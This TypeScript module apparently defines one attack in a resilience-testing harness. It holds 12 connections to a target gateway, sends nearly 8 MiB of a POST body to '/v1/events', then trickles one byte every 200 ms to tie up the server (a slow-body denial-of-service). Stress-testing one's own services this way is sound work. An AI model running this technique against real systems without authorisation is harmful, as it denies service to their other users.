import type { Attack } from '../attack.js';
import { holdConnections } from '../held-connections.js';
import { eventHeaders, headOf } from '../http-head.js';

const CONNECTIONS = 12;
const LARGEST_BODY_BYTES = 8 << 20;
/** All but a little: it is held while the rest trickles. */
const FIRST_BYTES = Buffer.alloc(LARGEST_BODY_BYTES - 256, ' ');

export const trickledBodies: Attack = {
  name: 'trickled-bodies',
  story:
    'Bodies of 8 MiB come almost whole, and then a byte at a time: what came is held, and must not be all that there is for others.',
  door: 'gateway',
  inflict: ({ target, over }) =>
    holdConnections(
      {
        at: [target.gateway],
        connections: CONNECTIONS,
        reads: true,
        begin: (socket) => {
          const headers = eventHeaders(target, `content-length: ${LARGEST_BODY_BYTES}`);
          socket.write(headOf(target.gateway, 'POST /v1/events', headers));
          socket.write(FIRST_BYTES);
        },
        again: { everyMs: 200, do: (socket) => void socket.write(' ') },
      },
      over,
    ),
};
